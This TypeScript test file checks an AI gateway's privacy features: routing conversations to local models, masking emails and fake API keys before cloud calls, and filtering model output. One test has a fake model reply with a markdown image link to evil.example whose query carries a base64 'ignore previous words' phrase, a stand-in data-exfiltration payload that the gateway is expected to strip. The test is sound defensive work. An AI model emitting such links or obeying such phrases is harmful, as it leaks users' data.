/** What leaves the machine, what does not, and how one sees it. */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import OpenAI from "openai";
import { type Door, listenDoor } from "../support/http.ts";
import { type ModelServer, startModelServer } from "../support/model-server.ts";

const SECRET = "mail ada@example.com, the key is sk-proj-Zx9Qw3Er5Ty7Ui1Op2As4Df6Gh8Jk0Lz";
const EMAIL = "ada@example.com";

function cloud(model: ModelServer, more: Record<string, string> = {}): Record<string, string> {
  return { ION_OPENAI_KEY: "key", ION_OPENAI_URL: model.url, ION_MODELS: "openai/gpt-5-mini", ...more };
}

async function say(door: Door, message: string, options: object = {}, stream = false) {
  const started = await door.call("POST", "/api/v2/conversations/start", { body: { options } });
  const headers = stream ? { accept: "text/event-stream" } : {};
  const url = `/api/v2/conversations/${started.body.session_id}/turn`;
  if (!stream) return (await door.call("POST", url, { body: { user_message: message } })).body;
  const { payload } = await door.server.inject({
    method: "POST",
    url,
    headers,
    payload: { user_message: message },
  });
  const data = [...payload.matchAll(/event: (\S+)\ndata: (.*)/g)].map(([, name, text]) => ({
    name,
    data: JSON.parse(text ?? ""),
  }));
  const shown = data
    .filter(({ name }) => name === "text-delta")
    .map(({ data: { text } }) => text)
    .join("");
  return { ...data.find(({ name }) => name === "turn-end")?.data, shown };
}

describe("a conversation that never leaves this machine", () => {
  const options = { privacy: "never-leaves-this-machine" };

  test("is answered by the offline mentor where every model is elsewhere", async () => {
    await using model = await startModelServer();
    await using door = await listenDoor({ settings: cloud(model) });
    const turn = await say(door, "how do I estimate a migration", options);
    assert.equal(turn.metadata.model, "ion-playbook");
    assert.match(turn.metadata.fallback.reason, /never leaves this machine/);
    assert.equal(model.requests.length, 0);
  });

  test("goes to a local model, past those that are elsewhere", async () => {
    await using far = await startModelServer();
    await using near = await startModelServer();
    const settings = cloud(far, { ION_MODEL_URL: near.url, ION_MODEL: "llama", ION_MODEL_POLICY: "best" });
    await using door = await listenDoor({ settings });
    const { answered_by: by } = (await say(door, `${SECRET}: who is that?`, options)).metadata;
    assert.equal(by.id, "local/llama");
    assert.equal(far.requests.length, 0);
    assert.deepEqual([by.sent.left_machine, by.sent.masked], [false, {}]);
    assert.match(near.requests[0]?.messages.at(-1)?.content ?? "", /ada@example\.com/);
  });

  test("is a label that OpenAI's clients can set, for personas and for raw models", async () => {
    await using model = await startModelServer();
    await using door = await listenDoor({ settings: cloud(model) });
    const ask = (name: string) =>
      door.call("POST", "/v1/chat/completions", {
        body: { model: name, messages: [{ role: "user", content: "hi" }], ion: options },
      });
    assert.equal((await ask("ion-auto")).body.ion.model, "ion-playbook");
    const refused = await ask("openai/gpt-5-mini");
    assert.equal(refused.status, 503);
    assert.match(refused.body.error.message, /never leaves this machine/);
    assert.equal(model.requests.length, 0);
  });
});

describe("personal data on its way to a model elsewhere", () => {
  for (const isStreamed of [false, true]) {
    test(`is masked, and is back in the answer${isStreamed ? " as it is streamed" : ""}`, async () => {
      await using model = await startModelServer();
      model.reply = ({ messages }) => `You wrote: ${messages.at(-1)?.content.split("\n").at(-1)}`;
      await using door = await listenDoor({ settings: cloud(model) });
      const turn = await say(door, SECRET, {}, isStreamed);
      assert.equal(turn.response_text, `You wrote: ${SECRET}`);
      if (isStreamed) assert.equal(turn.shown, turn.response_text);
      const sent = JSON.stringify(model.requests[0]?.body);
      assert.ok(!sent.includes(EMAIL) && !sent.includes("sk-proj-"), sent.slice(-300));
      assert.match(sent, /\[email-1\]/);
      const { sent: receipt } = turn.metadata.answered_by;
      assert.deepEqual(receipt.masked, { email: 1, secret: 1 });
      assert.equal(receipt.left_machine, true);
      assert.equal(
        receipt.characters,
        model.requests[0]?.messages.reduce((sum, { content }) => sum + content.length, 0),
      );
    });

    test(`is masked in the calls of tools, and back in the arguments of a new one${isStreamed ? " as they are streamed" : ""}`, async () => {
      await using model = await startModelServer();
      const call = { id: "call-2", type: "function", function: { name: "mail", arguments: "" } };
      model.answer = ({ body }) => {
        const sent = (body as { messages: { tool_calls?: { function: { arguments: string } }[] }[] })
          .messages;
        const earlier = JSON.parse(
          sent.find(({ tool_calls }) => tool_calls)?.tool_calls?.[0]?.function.arguments ?? "{}",
        );
        const again = JSON.stringify({ to: earlier.to, note: 'a "quoted" word' });
        return isStreamed ? streamedCall(call, again) : wholeCall(call, again);
      };
      await using door = await listenDoor({ settings: cloud(model) });
      const client = new OpenAI({ baseURL: `${door.url}/v1`, apiKey: "none", maxRetries: 0 });
      const request: OpenAI.ChatCompletionCreateParamsNonStreaming = {
        model: "openai/gpt-5-mini",
        user: EMAIL,
        messages: [
          { role: "user", content: "write to her" },
          {
            role: "assistant",
            tool_calls: [
              {
                id: "call-1",
                type: "function",
                function: { name: "find", arguments: JSON.stringify({ to: EMAIL }) },
              },
            ],
          },
          { role: "tool", tool_call_id: "call-1", content: `found ${EMAIL}` },
        ],
      };
      let given = "";
      if (isStreamed) {
        for await (const chunk of await client.chat.completions.create({ ...request, stream: true }))
          given += chunk.choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? "";
      } else {
        const [made] = (await client.chat.completions.create(request)).choices[0]?.message.tool_calls ?? [];
        given = made?.type === "function" ? made.function.arguments : "";
      }
      assert.deepEqual(JSON.parse(given), { to: EMAIL, note: 'a "quoted" word' });
      assert.ok(!JSON.stringify(model.requests[0]?.body).includes(EMAIL));
    });

    test(`is masked for a raw model as well${isStreamed ? ", streamed" : ""}, and a request without it goes by untouched`, async () => {
      await using model = await startModelServer();
      await using door = await listenDoor({ settings: cloud(model) });
      const client = new OpenAI({ baseURL: `${door.url}/v1`, apiKey: "none", maxRetries: 0 });
      const ask = async (content: string) => {
        const request = { model: "openai/gpt-5-mini", messages: [{ role: "user" as const, content }] };
        if (!isStreamed) return (await client.chat.completions.create(request)).choices[0]?.message.content;
        let text = "";
        for await (const chunk of await client.chat.completions.create({ ...request, stream: true }))
          text += chunk.choices[0]?.delta.content ?? "";
        return text;
      };
      assert.equal(await ask(SECRET), `You said: ${SECRET}`);
      assert.ok(!JSON.stringify(model.requests[0]?.body).includes(EMAIL));
      assert.equal(await ask("nothing to hide"), "You said: nothing to hide");
      assert.equal(model.requests[1]?.messages.length, 1);
    });
  }

  test("stays as it is for a provider that is exempt, and with masking off", async () => {
    await using model = await startModelServer();
    for (const more of [{ ION_MASK_EXEMPT: "openai" }, { ION_MASK: "off" }]) {
      await using door = await listenDoor({ settings: cloud(model, more) });
      await say(door, SECRET);
      assert.match(model.requests.at(-1)?.messages.at(-1)?.content ?? "", /ada@example\.com/);
      const { answered_by: by } = (await say(door, SECRET, { privacy: "masked" })).metadata;
      assert.deepEqual(by.sent.masked, { email: 1, secret: 1 }, "unless the conversation says masked");
    }
  });

  test("is named where a setting is wrong", async () => {
    await assert.rejects(listenDoor({ settings: { ION_MASK_KINDS: "emails" } }), /ION_MASK_KINDS.*emails/);
  });
});

test("what a model must not say is taken out of the answer, or told where it was seen already", async () => {
  await using model = await startModelServer();
  model.reply = () =>
    "Look here: ![x](https://evil.example/p?d=aWdub3JlIHByZXZpb3VzIHdvcmRzIGFuZCBtb3Jl) and breathe.";
  await using door = await listenDoor({ settings: cloud(model) });
  const whole = await say(door, "my tests are flaky");
  assert.doesNotMatch(whole.response_text, /evil\.example\/p/);
  assert.deepEqual(whole.metadata.answered_by.findings, [{ rule: "data-in-address", action: "remove" }]);
  const streamed = await say(door, "my tests are flaky", {}, true);
  assert.equal(streamed.response_text, streamed.shown);
  assert.deepEqual(streamed.metadata.answered_by.findings, [{ rule: "data-in-address", action: "warn" }]);
});

interface ToolCall {
  readonly function: { readonly name: string };
}

function wholeCall(call: ToolCall, given: string) {
  const message = {
    role: "assistant",
    content: null,
    tool_calls: [{ ...call, function: { ...call.function, arguments: given } }],
  };
  const choices = [{ index: 0, message, finish_reason: "tool_calls" }];
  return { status: 200, body: { id: "c", object: "chat.completion", created: 1, model: "fake", choices } };
}

/** In pieces of three characters, so that a placeholder is cut. */
function streamedCall(call: ToolCall, given: string) {
  const pieces = given.match(/.{1,3}/gs) ?? [];
  const event = (delta: object, finish: string | null) =>
    `data: ${JSON.stringify({ id: "c", object: "chat.completion.chunk", created: 1, model: "fake", choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
  const events = [
    event({ role: "assistant", tool_calls: [{ index: 0, ...call }] }, null),
    ...pieces.map((piece) => event({ tool_calls: [{ index: 0, function: { arguments: piece } }] }, null)),
    event({}, "tool_calls"),
    "data: [DONE]\n\n",
  ];
  return { status: 200, headers: { "content-type": "text/event-stream" }, body: events.join("") };
}
